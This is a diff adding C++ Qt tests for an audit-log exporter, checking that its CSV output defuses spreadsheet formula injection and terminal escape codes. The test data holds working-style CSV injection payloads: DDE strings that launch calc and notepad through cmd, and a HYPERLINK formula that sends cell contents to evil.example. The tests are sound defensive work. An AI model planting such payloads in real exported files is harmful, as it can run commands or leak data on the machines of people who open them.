@@ -179,6 +179,33 @@ private Q_SLOTS:
         QCOMPARE(AuditExportWriter::csvField(value), field);
     }
 
+    void csvTextField_data()
+    {
+        QTest::addColumn<QByteArray>("value");
+        QTest::addColumn<QByteArray>("field");
+        QTest::newRow("plain") << QByteArray("note 1") << QByteArray("note 1");
+        QTest::newRow("formula") << QByteArray("=1+1") << QByteArray("'=1+1");
+        QTest::newRow("plus") << QByteArray("+1") << QByteArray("'+1");
+        QTest::newRow("minus") << QByteArray("-2+3") << QByteArray("'-2+3");
+        QTest::newRow("at") << QByteArray("@SUM(1+1)") << QByteArray("'@SUM(1+1)");
+        QTest::newRow("tab") << QByteArray("\t=1+1") << QByteArray("'\t=1+1");
+        QTest::newRow("cr") << QByteArray("\r=1") << QByteArray("\"'\r=1\"");
+        QTest::newRow("inside") << QByteArray("a=1") << QByteArray("a=1");
+        QTest::newRow("quoted formula") << QByteArray("=HYPERLINK(\"x\",\"y\")")
+                                        << QByteArray("\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
+        QTest::newRow("esc") << QByteArray("a\x1b[31mb") << QByteArray("a\xe2\x90\x9b[31mb");
+        QTest::newRow("nul del") << QByteArray("a\0b\x7f", 4)
+                                 << QByteArray("a\xe2\x90\x80"
+                                               "b\xe2\x90\xa1");
+        QTest::newRow("tab lf kept") << QByteArray("a\tb\nc") << QByteArray("\"a\tb\nc\"");
+    }
+    void csvTextField()
+    {
+        QFETCH(QByteArray, value);
+        QFETCH(QByteArray, field);
+        QCOMPARE(AuditExportWriter::csvTextField(value), field);
+    }
+
     void jsonString()
     {
         QCOMPARE(AuditExportWriter::jsonString("a\"b\\c\n\r\t\x01\xc3\xbc"),
@@ -413,6 +440,54 @@ private Q_SLOTS:
         QVERIFY(!summary->head.isValid());
         const QJsonObject trailer = QJsonDocument::fromJson(bytes).object();
         QVERIFY(trailer.value(QStringLiteral("chain_head")).isNull());
+    }
+
+    // An audit entry written to open a spreadsheet's formulas (OWASP "CSV Injection") and to
+    // colour a terminal: the CSV line holds each text cell with a leading "'" and the ESC as
+    // U+241B, the id as a number; JSON Lines keeps the values as stored.
+    void csvNeutralisesFormulasAndControls()
+    {
+        const qint64 id
+            = q(m_admin,
+                "INSERT INTO redrive.audit_log (action, targets, reason, ticket, before, after,"
+                " action_id, os_user) VALUES ('note',"
+                " '[{\"type\": \"compensation\", \"id\": 987654}]',"
+                " '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")',"
+                " '+1+cmd|'' /C calc''!A0', '{\"k\": \"-2+3\"}', '\"@SUM(1+1)\"',"
+                " gen_random_uuid(), E'=cmd|'' /C notepad''!A0\\x1b[31m') RETURNING id")
+                  .bigInt(0, 0)
+                  .value_or(0);
+        QVERIFY(id > 0);
+        const ResultSet row
+            = q(m_admin,
+                "SELECT to_char(at AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"'),"
+                " db_user, action_id, encode(prev_hash, 'hex'),"
+                " encode(hash, 'hex') FROM redrive.audit_log WHERE id = $1",
+                QueryParams().addBigInt(id));
+        AuditFilter filter;
+        filter.targetType = QStringLiteral("compensation");
+        filter.targetId = QStringLiteral("987654");
+        QByteArray bytes;
+        exportTo(&bytes, filter, AuditExportFormat::Csv);
+        const QList<QByteArray> lines = bytes.split('\n');
+        QCOMPARE(lines.size(), 3); // header, the entry, and nothing after the last CRLF
+        const QByteArray entry = lines.at(1);
+        const QByteArray rest = "'=cmd|' /C notepad'!A0\xe2\x90\x9b[31m,note,"
+                                "\"[{\"\"id\"\": 987654, \"\"type\"\": \"\"compensation\"\"}]\","
+                                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","
+                                "'+1+cmd|' /C calc'!A0,"
+                                "\"{\"\"k\"\": \"\"-2+3\"\"}\","
+                                "\"\"\"@SUM(1+1)\"\"\","
+            + row.text(0, 2).toUtf8() + ",";
+        QCOMPARE(entry,
+                 QByteArray::number(id) + ',' + row.text(0, 0).toUtf8() + ','
+                     + row.text(0, 1).toUtf8() + ",," + rest + "{}," + row.text(0, 3).toUtf8() + ','
+                     + row.text(0, 4).toUtf8() + '\r');
+        // JSON Lines keeps them as stored, escaped.
+        QByteArray jsonl;
+        exportTo(&jsonl, filter, AuditExportFormat::JsonLines);
+        QVERIFY(jsonl.contains("\"os_user\":\"=cmd|' /C notepad'!A0\\u001b[31m\""));
+        QVERIFY(jsonl.contains("\"ticket\":\"+1+cmd|' /C calc'!A0\""));
     }
 };
 
